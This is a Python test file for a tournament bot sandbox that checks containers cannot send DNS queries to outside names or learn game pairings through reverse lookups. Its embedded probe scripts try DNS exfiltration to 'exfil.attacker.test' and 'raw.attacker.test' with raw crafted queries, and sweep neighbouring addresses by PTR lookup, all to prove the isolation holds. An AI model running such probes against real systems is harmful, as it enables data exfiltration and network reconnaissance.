"""No resolver that reaches out (issue 24): a bot container cannot resolve, or send a query for, a
name outside the tournament. A canary DNS server of the test's own (UDP and TCP port 53 on the
sandbox network's gateway, the only upstream the containers' resolver is given) counts every query
that reaches it; a hostile container of the real sandbox (arena/hosting/sandbox.py) looks names up through
Docker's resolver and sends raw queries to it and to the gateway: zero queries arrive. The control:
on a plain bridge network (no internal flag, no firewall chain) the same kind of container's lookup
does reach a canary, so the canary would see a leak.
"""

from __future__ import annotations

import os
import socket
import threading
from pathlib import Path
from typing import Any

import pytest

from arena.hosting.sandbox import Limits, Sandbox, run_key
from tests.docker_helpers import base_image, docker_client, leftovers

pytestmark = [pytest.mark.slow, pytest.mark.docker]

#: What the hostile container tries: lookups through Docker's resolver, then raw queries (UDP) to it
#: and to the gateway; prints one line per attempt ("resolved"/"failed"/"answered"/"no answer").
PROBE = r"""
import socket, struct, sys
gateway = sys.argv[1]
for name in ("exfil.attacker.test",):
    try:
        socket.getaddrinfo(name, 80)
        print("LOOKUP", name, "resolved")
    except OSError:
        print("LOOKUP", name, "failed")
query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(
    bytes([len(p)]) + p.encode() for p in "raw.attacker.test".split(".")) + b"\0" + struct.pack(">HH", 1, 1)
for target in ("127.0.0.11", gateway):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:  # to 127.0.0.11 refused at once (EPERM) by the container's own rule: no answer either
        s.sendto(query, (target, 53))
        s.recv(512)
        print("RAW", target, "answered")
    except OSError:
        print("RAW", target, "no answer")
"""


class CanaryResolver:
    """A DNS listener on ``host``:53 (UDP and TCP) that counts every query and answers none."""

    def __init__(self, host: str):
        self.queries: list[str] = []
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind((host, 53))
        self.udp.settimeout(0.2)
        self.tcp = socket.create_server((host, 53))
        self.tcp.settimeout(0.2)
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=f, daemon=True) for f in (self._serve_udp, self._serve_tcp)]
        for t in self._threads:
            t.start()

    def _serve_udp(self) -> None:
        while not self._stop.is_set():
            try:
                data, peer = self.udp.recvfrom(4096)
            except TimeoutError:
                continue
            self.queries.append(f"udp from {peer[0]}: {len(data)} bytes")

    def _serve_tcp(self) -> None:
        while not self._stop.is_set():
            try:
                conn, peer = self.tcp.accept()
            except TimeoutError:
                continue
            self.queries.append(f"tcp from {peer[0]}")
            conn.close()

    def close(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(5)
        self.udp.close()
        self.tcp.close()


def _gateway(net: Any) -> str:
    net.reload()
    return str(net.attrs["IPAM"]["Config"][0]["Gateway"])


def test_control_a_plain_network_lookup_reaches_the_canary() -> None:
    """The control: a container on a plain bridge network whose resolver's upstream is a canary on the
    gateway looks a name up, and the canary counts the forwarded query."""
    client = docker_client()
    net = client.networks.create(f"allfours-dnscontrol-{os.getpid()}", driver="bridge",
                                 labels={"org.allfours.test": "dns-control"})
    try:
        gateway = _gateway(net)
        canary = CanaryResolver(gateway)
        try:
            lookup = "import socket\ntry:\n    socket.getaddrinfo('control.attacker.test', 80)\nexcept OSError: pass"
            client.containers.run(base_image("python"), ["python3", "-c", lookup], network=net.name,
                                  dns=[gateway], remove=True)  # through Docker's resolver (127.0.0.11) only
        finally:
            canary.close()
    finally:
        net.remove()
    assert any(q.startswith("udp") for q in canary.queries), canary.queries


def test_a_bot_container_sends_no_query_for_an_outside_name(tmp_path: Path) -> None:
    """A container of the real sandbox: its resolver's only upstream is the gateway, where the canary
    listens; lookups of outside names fail, raw queries get no answer, and none reaches the canary."""
    client = docker_client()
    key = run_key(tmp_path / "out")
    sandbox = Sandbox(client, key, "dns-canary")
    gateway = sandbox.open(reaper=False)
    canary = CanaryResolver(gateway)
    log = tmp_path / "probe.log"
    try:
        bot = sandbox.start(base_image("python"), "hostile", "dns", {}, Limits(), log,
                            command=["python3", "-c", PROBE, gateway])
        assert client.api.inspect_container(bot.pid)["HostConfig"]["Dns"] == [gateway]
        code = bot.wait(60)
        bot.stop()
    finally:
        canary.close()
        sandbox.close()
    lines = log.read_text().splitlines()
    assert code == 0, lines
    assert [x.rsplit(" ", 1)[1] for x in lines if x.startswith("LOOKUP")] == ["failed"], lines
    assert {x for x in lines if x.startswith("RAW")} == {f"RAW {gateway} no answer", "RAW 127.0.0.11 no answer"}
    assert canary.queries == []
    assert leftovers(client, key) == []


#: What a hostile container asks Docker's resolver: the name of every address of its network's first
#: ten (its own and its neighbours', reverse lookups); prints ``PTR <address> <name>`` for each answer.
PTR_PROBE = r"""
import socket, struct
mine = [line.split()[0] for line in open("/etc/hosts") if line.split()[1:] == ["bot"]][0]
net = mine.rsplit(".", 1)[0]
for last in range(2, 12):
    address = f"{net}.{last}"
    name = ".".join(reversed(address.split("."))) + ".in-addr.arpa"
    query = struct.pack(">HHHHHH", last, 0x0100, 1, 0, 0, 0) + b"".join(
        bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 12, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:  # refused at once (EPERM) by the container's own rule on Docker's resolver
        s.sendto(query, ("127.0.0.11", 53))
        answer = s.recv(4096)
    except OSError:
        continue
    print("PTR", address, "".join(chr(b) if 33 <= b < 127 else "." for b in answer[len(query):]), flush=True)
"""


def test_a_bot_container_learns_no_game_from_its_networks_names(tmp_path: Path) -> None:
    """Docker's resolver answers reverse lookups of the network's addresses with its containers' names,
    and a bot container's name held its game's id and seat (``allfours-<key>-cup-p0-3-g1-s0-<n>``): a
    container learned its own game's pairing (the entrant numbers, which the stored games tie to names,
    so whom it plays in a blind tournament) and every running game's. A container's name is now the run's
    key and a random part; its game and seat are in its labels, which no container reads. Every container
    refuses Docker's resolver from its own namespace once docker has started it (tests/test_docker_resolver.py),
    but a lookup in its first moments, before that rule, may still be answered (on a busy machine this probe's
    were, once in two runs): so the names docker would tell are checked both as told and from docker's list."""
    client = docker_client()
    key = run_key(tmp_path / "out")
    sandbox = Sandbox(client, key, "dns-names")
    sandbox.open(reaper=False)
    log = tmp_path / "probe.log"
    try:
        other = sandbox.start(base_image("python"), "friend", "cup-p0-3-g1-s1", {}, Limits(), tmp_path / "o.log",
                              command=["python3", "-c", "import time; time.sleep(120)"])
        bot = sandbox.start(base_image("python"), "hostile", "cup-p0-3-g1-s0", {}, Limits(), log,
                            command=["python3", "-c", PTR_PROBE])
        code = bot.wait(60)
        names = [n for c in client.api.containers(all=True, filters={"label": f"org.allfours.run={key}"})
                 for n in c["Names"]]
        bot.stop()
        other.stop()
    finally:
        sandbox.close()
    lines = log.read_text().splitlines()
    assert code == 0, lines
    # what a reverse lookup told in the container's first moments, before its rule (docs/deploy.md: the window
    # the host's load sets; once the rule is in, nothing: tests/test_docker_resolver.py), holds no game either
    assert not [x for x in lines if "p0-3" in x or "g1" in x or "hostile" in x or "friend" in x], lines
    assert len(names) == 2, names
    assert not [x for x in names if "p0-3" in x or "g1" in x or "hostile" in x or "friend" in x], names
    assert leftovers(client, key) == []
